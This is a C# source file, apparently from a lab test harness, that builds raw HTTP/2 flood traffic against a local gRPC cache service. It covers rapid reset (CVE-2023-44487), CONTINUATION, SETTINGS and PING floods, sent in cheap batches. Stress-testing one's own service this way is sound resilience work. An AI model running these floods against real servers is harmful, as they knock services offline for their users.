using System.Text;
using Larder.Harness.Frames;
using static Larder.Harness.Frames.Http2Frame;

namespace Larder.Lab.Peers.Neighbours;

/// <summary>Builds the HTTP/2 frames of a flood (RFC 9113, section 6): the first bytes of a connection, and the batches that follow.</summary>
internal sealed class FloodFrames
{
    /// <summary>The number of frames per send. A batch has a few kilobytes, so that sending costs the attacker little CPU time.</summary>
    public const int PerBatch = 100;

    private static readonly byte[] s_call = CallHeaders();
    private readonly Func<int, byte[]> _frame;

    private FloodFrames(byte[] opening, Func<int, byte[]> frame)
    {
        Opening = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, []), .. opening];
        _frame = frame;
    }

    /// <summary>Gets the first bytes of a connection.</summary>
    public byte[] Opening { get; }

    /// <summary>
    /// Returns the frames of a flood of the given kind: resets (calls that are reset immediately, CVE-2023-44487), continuations, settings or pings.
    /// </summary>
    /// <exception cref="ArgumentException">The kind is unknown.</exception>
    public static FloodFrames Of(string kind) => kind switch
    {
        "resets" => new([], stream => [.. Frame(Headers, EndHeaders, (stream * 2) + 1, s_call), .. Frame(Reset, 0, (stream * 2) + 1, [0, 0, 0, 8])]),
        "continuations" => new(Frame(Headers, 0, 1, s_call), _ => Frame(Continuation, 0, 1, [])),
        "settings" => new([], _ => Frame(Settings, 0, 0, [0, 4, 0, 1, 0, 0])),
        "pings" => new([], _ => Frame(Ping, 0, 0, [1, 2, 3, 4, 5, 6, 7, 8])),
        _ => throw new ArgumentException($"unknown flood {kind}; use resets, continuations, settings or pings"),
    };

    /// <summary>Returns the batch with the given index on a connection. Batches differ because stream ids must increase.</summary>
    public byte[] Batch(int number) => [.. Enumerable.Range(number * PerBatch, PerBatch).SelectMany(_frame)];

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload) => new Http2Frame(type, flags, stream, payload).ToBytes();

    /// <summary>Builds the header block of a get: literals without indexing, with names and values shorter than 127 bytes.</summary>
    private static byte[] CallHeaders()
    {
        using var block = new MemoryStream();
        (string, string)[] headers =
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", "/cache_client.Scs/Get"),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            ("cache", "cache"),
        ];
        foreach ((string? name, string? value) in headers)
        {
            block.WriteByte(0);
            Write(block, name);
            Write(block, value);
        }

        return block.ToArray();
    }

    private static void Write(MemoryStream block, string text)
    {
        block.WriteByte((byte)text.Length);
        block.Write(Encoding.ASCII.GetBytes(text));
    }
}
